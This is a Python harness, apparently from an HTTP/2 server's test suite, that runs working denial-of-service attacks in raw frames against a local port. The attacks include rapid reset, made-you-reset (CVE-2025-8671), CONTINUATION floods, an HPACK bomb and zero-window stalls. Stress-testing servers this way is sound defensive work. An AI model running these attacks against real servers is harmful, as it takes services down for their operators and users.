"""HTTP/2 attacks in raw frames, run in a process of their own (so that the test process,
which measures a normal client's latency, shares no interpreter with the attacker):

    python h2attack.py KIND PORT SECONDS [JSON OPTIONS]

Each attack runs for SECONDS, on a new connection whenever the server ends one (a GOAWAY
or a close: real attackers reconnect), reading and dropping what the server sends. It
prints one JSON object: what it sent, the connections it took and how many of them the
server ended, the GOAWAY codes it got (a GOAWAY sent just before the server closes can be
lost: the close resets the connection while the attacker's bytes are unread) and the bytes
the server sent back.

KIND: rapid-reset (HEADERS then RST_STREAM, in batches, as fast as the socket takes
them), paced-reset (open ``streams`` streams, wait ``hold`` seconds, reset them, again),
made-you-reset (HEADERS then a WINDOW_UPDATE that overflows the stream's window: the
server resets the stream itself, CVE-2025-8671), ping / settings / priority / rst /
empty-data floods, continuation (one HEADERS and CONTINUATION frames without end),
empty-continuation (the same with empty frames), hpack-bomb (a large field into the
dynamic table, then referenced thousands of times per request), zero-window (streams
whose responses get no window, ever)."""

import json
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113 §6); tests/h2kit.py takes them from here.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY = range(8)
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4

# Error codes.
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR = 0x0, 0x1, 0x2, 0x3
FRAME_SIZE_ERROR, CANCEL, ENHANCE_YOUR_CALM = 0x6, 0x8, 0xB


def frame(kind, flags=0, stream=0, payload=b""):
    """One frame's bytes."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + bytes(payload)
    )


def block(path, method="GET", extra=()):
    """A header block that adds nothing to the dynamic table: the same bytes every time."""
    fields = [(":method", method), (":scheme", "http"), (":authority", "localhost")]
    fields += [(":path", path), *extra]
    return hpack.Encoder().encode([(n, v, True) for n, v in fields], huffman=False)


class Conn:
    """One attacking connection: writes frames, reads and counts what comes back."""

    def __init__(self, port, settings=b""):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setblocking(False)
        self.buf = b""
        self.goaway = None
        self.debug = ""
        self.closed = False
        self.received = 0
        self.next_id = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def stream_id(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def send(self, data, deadline=None):
        """Writes all of ``data`` (reading meanwhile); False once the server is gone."""
        view = memoryview(data)
        while view and not self.closed:
            _, writable, _ = select.select([self.sock], [self.sock], [], 0.5)
            self.drain()
            if writable:
                try:
                    n = self.sock.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    self.closed = True
                    break
                view = view[n:]
            if deadline and time.monotonic() > deadline:
                return False
        return not self.closed

    def drain(self):
        """Reads what the server sent, noting a GOAWAY."""
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 20)
            except BlockingIOError:
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.received += len(chunk)
            self.buf += chunk
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                if self.buf[3] == GOAWAY and self.goaway is None:
                    self.goaway = int.from_bytes(self.buf[13:17], "big")
                    self.debug = self.buf[17 : 9 + n].decode("latin-1")
                self.buf = self.buf[9 + n :]

    def close(self):
        self.sock.close()


def attack(kind, port, seconds, opts):
    deadline = time.monotonic() + seconds
    out = {"kind": kind, "connections": 0, "ended": 0, "goaways": {}, "sent": 0, "streams": 0}
    batch = opts.get("batch", 100)
    path = opts.get("path", "/work?ms=200")
    headers = block(path)
    while time.monotonic() < deadline:
        settings = b""
        if kind == "zero-window":
            settings = struct.pack(">HI", 0x4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE 0
        c = Conn(port, settings)
        out["connections"] += 1
        try:
            run(kind, c, deadline, out, batch, headers, opts)
        finally:
            c.drain()
            if c.goaway is not None or c.closed:
                out["ended"] += 1  # by the server, not by the attacker's deadline
            if c.goaway is not None:
                key = f"{c.goaway} {c.debug}".strip()
                out["goaways"][key] = out["goaways"].get(key, 0) + 1
            out["received"] = out.get("received", 0) + c.received
            c.close()
    return out


def run(kind, c, deadline, out, batch, headers, opts):
    def go(data, count, streams=0):
        ok = c.send(data, deadline)
        if ok:
            out["sent"] += count
            out["streams"] += streams
        return ok and c.goaway is None and not c.closed

    if kind == "rapid-reset":
        while time.monotonic() < deadline:
            data = b""
            for _ in range(batch):
                sid = c.stream_id()
                data += frame(HEADERS, END_STREAM | END_HEADERS, sid, headers)
                data += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            if not go(data, batch, batch):
                return
    elif kind == "paced-reset":
        streams, hold = opts.get("streams", 4), opts.get("hold", 0.03)
        while time.monotonic() < deadline:
            sids = [c.stream_id() for _ in range(streams)]
            data = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, headers) for s in sids)
            if not go(data, 0, streams):
                return
            time.sleep(hold)
            c.drain()
            data = b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in sids)
            if not go(data, streams):
                return
    elif kind == "made-you-reset":
        overflow = struct.pack(">I", 0x7FFFFFFF)
        while time.monotonic() < deadline:
            data = b""
            for _ in range(batch):
                sid = c.stream_id()
                data += frame(HEADERS, END_STREAM | END_HEADERS, sid, headers)
                data += frame(WINDOW_UPDATE, 0, sid, overflow)
            if not go(data, batch, batch):
                return
            if opts.get("pause"):
                time.sleep(opts["pause"])
    elif kind in ("ping", "settings", "priority", "rst", "empty-data"):
        if kind == "rst" or kind == "empty-data":
            # A stream to aim at: reset at once (rst), or a POST still sending (empty-data).
            sid = c.stream_id()
            if kind == "rst":
                opening = frame(HEADERS, END_STREAM | END_HEADERS, sid, headers)
                opening += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            else:
                post = block("/upload", "POST")
                opening = frame(HEADERS, END_HEADERS, sid, post)
            if not go(opening, 0, 1):
                return
        one = {
            "ping": frame(PING, 0, 0, b"12345678"),
            "settings": frame(SETTINGS),
            "priority": frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 16)),
            "rst": frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)),
            "empty-data": frame(DATA, 0, 1),
        }[kind]
        data = one * batch
        while time.monotonic() < deadline:
            if not go(data, batch):
                return
    elif kind in ("continuation", "empty-continuation"):
        sid = c.stream_id()
        if not go(frame(HEADERS, END_STREAM, sid, headers), 1, 1):
            return
        piece = b""
        if kind == "continuation":
            piece = hpack.Encoder().encode([("x-flood", "a" * 1000, True)], huffman=False)
        data = frame(CONTINUATION, 0, sid, piece) * batch
        while time.monotonic() < deadline:
            if not go(data, batch):
                return
    elif kind == "hpack-bomb":
        # The first request puts a 4,000-byte field in the table; each request then refers
        # to it (index 62, one byte) 4,000 times: 16 MB of fields in 4 KB on the wire.
        size, refs = opts.get("size", 4000), opts.get("refs", 4000)
        enc = hpack.Encoder()
        first = enc.encode([("x-bomb", "a" * size)], huffman=False)
        bomb = b"\xbe" * refs
        sid = c.stream_id()
        data = frame(HEADERS, END_STREAM | END_HEADERS, sid, headers + first + bomb)
        if not go(data, 1, 1):
            return
        while time.monotonic() < deadline:
            sid = c.stream_id()
            if not go(frame(HEADERS, END_STREAM | END_HEADERS, sid, headers + bomb), 1, 1):
                return
    elif kind == "zero-window":
        streams = opts.get("streams", 4)
        data = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, c.stream_id(), headers) for _ in range(streams)
        )
        if not go(data, 0, streams):
            return
        # Then nothing: no WINDOW_UPDATE, ever; the connection stays open.
        while time.monotonic() < deadline and not c.closed:
            time.sleep(0.05)
            c.drain()
    else:
        raise SystemExit(f"unknown attack {kind!r}")


if __name__ == "__main__":
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    opts = json.loads(sys.argv[4]) if len(sys.argv) > 4 else {}
    print(json.dumps(attack(kind, port, seconds, opts)))
